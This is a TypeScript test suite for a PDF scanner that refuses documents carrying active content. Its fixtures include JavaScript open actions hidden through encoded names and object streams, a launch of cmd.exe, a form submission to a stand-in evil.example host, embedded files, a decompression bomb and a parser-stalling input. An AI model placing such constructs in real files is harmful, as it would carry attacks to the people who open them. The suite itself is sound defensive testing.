import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { PDFDocument } from "@cantoo/pdf-lib";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { examine } from "../../server/document/reading/examination.ts";
import { objectStream, pages, paperOf, pdfOf, streamOf } from "../support/pdfs.ts";
import { zlibZeros } from "../support/bombs.ts";
import { scannedPdf } from "../support/files.ts";

async function faultOf(content: Buffer): Promise<string | undefined> {
  const found = await examine("file.pdf", content);
  return "fault" in found ? found.fault : undefined;
}

const script = "<< /S /JavaScript /JS (app.alert(1)) >>";

describe("a PDF that acts is refused", () => {
  const acting: Record<string, Buffer> = {
    "with a script when it opens": pdfOf([...pages("/OpenAction 4 0 R"), script]),
    "with a script under an encoded name": pdfOf([
      ...pages("/OpenAction 4 0 R"),
      "<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
    ]),
    "with a script in a page's own actions": pdfOf([...pages(), `<< /AA << /O ${script} >> >>`]),
    "with a script in an object stream": pdfOf([
      ...pages("/OpenAction 51 0 R"),
      objectStream(["null", script]),
    ]),
    "with an encoded name in an object stream": pdfOf([...pages(), objectStream(["<< /S /#4aavaScript >>"])]),
    "with an object stream that does not call itself one": pdfOf([
      ...pages(),
      Buffer.from(objectStream([script]).toString("latin1").replace("/Type /ObjStm", ""), "latin1"),
    ]),
    "with a script inside a string of an object stream that the table points into": pdfOf([
      ...pages(),
      streamOf(
        deflateSync(Buffer.from(`50 1 (${script})`)),
        "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
      ),
    ]),
    "with an object hidden in the bytes of a stream": pdfOf([
      ...pages(),
      streamOf(Buffer.from(`xx\n9 0 obj\n${script}\nendobj\n`), ""),
    ]),
    "with a header that a comment breaks": pdfOf([...pages(), `null endobj 9 %a\n0 %b\nobj ${script}`]),
    "that starts a program": pdfOf([...pages("/OpenAction << /S /Launch /F (cmd.exe) >>")]),
    "that sends a form": pdfOf([...pages(), "<< /S /SubmitForm /F (https://evil.example) >>"]),
    "whose kind of action stands elsewhere": pdfOf([...pages("/OpenAction << /S 4 0 R >>"), "/Launch"]),
    "that imports data": pdfOf([...pages(), "<< /S /ImportData >>"]),
    "that carries files": pdfOf([...pages("/Names << /EmbeddedFiles 4 0 R >>"), "<< /Names [] >>"]),
    "that opens another file": pdfOf([...pages(), "<< /S /GoToR /F (//evil.example/share) >>"]),
    "with rich media": pdfOf([...pages(), "<< /Subtype /RichMedia >>"]),
    "with a form of the other kind": pdfOf([...pages("/AcroForm << /XFA 4 0 R >>"), "[]"]),
    "in an earlier version of itself": Buffer.concat([
      pdfOf([...pages(), script]),
      Buffer.from("\n4 0 obj\nnull\nendobj\ntrailer\n<< /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF"),
    ]),
  };
  test.each(Object.entries(acting))("%s", async (_how, content) => {
    expect(await faultOf(content)).toBe("active");
  });
});

describe("what cannot be read as a PDF is refused", () => {
  const broken: Record<string, readonly [Buffer, string]> = {
    "without pages": [pdfOf(["<< /Type /Catalog >>"]), "unreadable"],
    "that is only a head": [Buffer.from("%PDF-1.7\nhello"), "unreadable"],
    "protected by a password": [
      pdfOf([...pages(), objectStream(["null"])], "/Root 1 0 R /Encrypt 9 0 R"),
      "protected",
    ],
    "with an object stream that does not open": [
      pdfOf([...pages(), streamOf(randomBytes(64), "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode")]),
      "unreadable",
    ],
    "with an object stream written in a way nobody uses": [
      pdfOf([...pages(), objectStream(["null"], "/Filter [/ASCII85Decode /FlateDecode]")]),
      "unreadable",
    ],
    "whose object stream says elsewhere where it begins": [
      pdfOf([
        ...pages(),
        Buffer.from(
          objectStream([script])
            .toString("latin1")
            .replace(/\/First \d+/, "/First 5 0 R"),
          "latin1",
        ),
      ]),
      "unreadable",
    ],
  };
  test.each(Object.entries(broken))("%s", async (_how, [content, fault]) => {
    expect(await faultOf(content)).toBe(fault);
  });
});

describe("a harmless PDF passes", () => {
  test.each([
    ["of a scanner", scannedPdf.content],
    [
      "with a link to an address that looks like code",
      pdfOf([...pages(), "<< /S /URI /URI (https://a.example/JS/JavaScript) >>"]),
    ],
    ["that speaks of scripts", pdfOf([...pages(), "<< /Title (How to use /JavaScript and /Launch) >>"])],
    ["with objects in an object stream", pdfOf([...pages(), objectStream(["<< /A 1 >>", "[ /B ]"])])],
    ["that opens at a page", pdfOf(pages("/OpenAction [3 0 R /Fit]"))],
  ])("%s", async (_what, content) => {
    expect(await faultOf(content)).toBeUndefined();
  });

  test("written by the library that writes ours", async () => {
    expect(await faultOf(await paperOf("Fattura 12", "€ 45,00"))).toBeUndefined();
  });

  test("with a hundred times five megabytes of random bytes", async () => {
    for (let round = 0; round < 100; round += 1) {
      const content = pdfOf([...pages(), streamOf(randomBytes(5_000_000), "/Filter /DCTDecode")]);
      expect(await faultOf(content)).toBeUndefined();
    }
  });
});

test("another library's files are read as it wrote them: with object streams, scripts, attachments, passwords", async () => {
  const written = async (change: (paper: PDFDocument) => unknown) => {
    const paper = await PDFDocument.create();
    paper.addPage().drawText("Fattura 12");
    await change(paper);
    return faultOf(Buffer.from(await paper.save()));
  };
  expect(await written(() => {})).toBeUndefined();
  expect(await written((paper) => paper.addJavaScript("main", "app.alert(1)"))).toBe("active");
  expect(await written((paper) => paper.attach(Buffer.from("x"), "x.txt"))).toBe("active");
  expect(await written((paper) => paper.encrypt({ ownerPassword: "x" }))).toBe("protected");
});

test("whatever the bytes, reading ends and never breaks", async () => {
  const piece = fc.constantFrom(
    ...[
      "<<",
      ">>",
      "[",
      "]",
      "(",
      ")",
      "<",
      ">",
      "/",
      "%",
      "\n",
      " ",
      "obj",
      "endobj",
      "stream",
      "endstream",
    ],
    ...[
      "trailer",
      "1 0 obj",
      "/Type /ObjStm",
      "/First 3",
      "/N 1",
      "/Filter /FlateDecode",
      "/A#",
      "\\",
      "9999999",
    ],
  );
  const some = fc.oneof(
    piece,
    fc.uint8Array({ maxLength: 20 }).map((bytes) => Buffer.from(bytes).toString("latin1")),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(some, { maxLength: 200 }), async (pieces) => {
      const fault = await faultOf(Buffer.from(`%PDF-1.7\n${pieces.join("")}`, "latin1"));
      expect([undefined, "active", "protected", "unreadable", "expands"]).toContain(fault);
    }),
    { numRuns: 300 },
  );
});

test("an object stream that would inflate to a gigabyte is refused", async () => {
  const since = performance.now();
  const bomb = pdfOf([
    ...pages(),
    streamOf(zlibZeros(1_024), "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"),
  ]);
  expect(await faultOf(bomb)).toBe("expands");
  expect(performance.now() - since).toBeLessThan(1_000);
});

test("an object that never closes cannot be repeated to keep us busy", async () => {
  const since = performance.now();
  expect(await faultOf(Buffer.from(`%PDF-1.7\n${"1 0 obj [(".repeat(520_000)}`))).toBe("unreadable");
  expect(performance.now() - since).toBeLessThan(2_000);
});
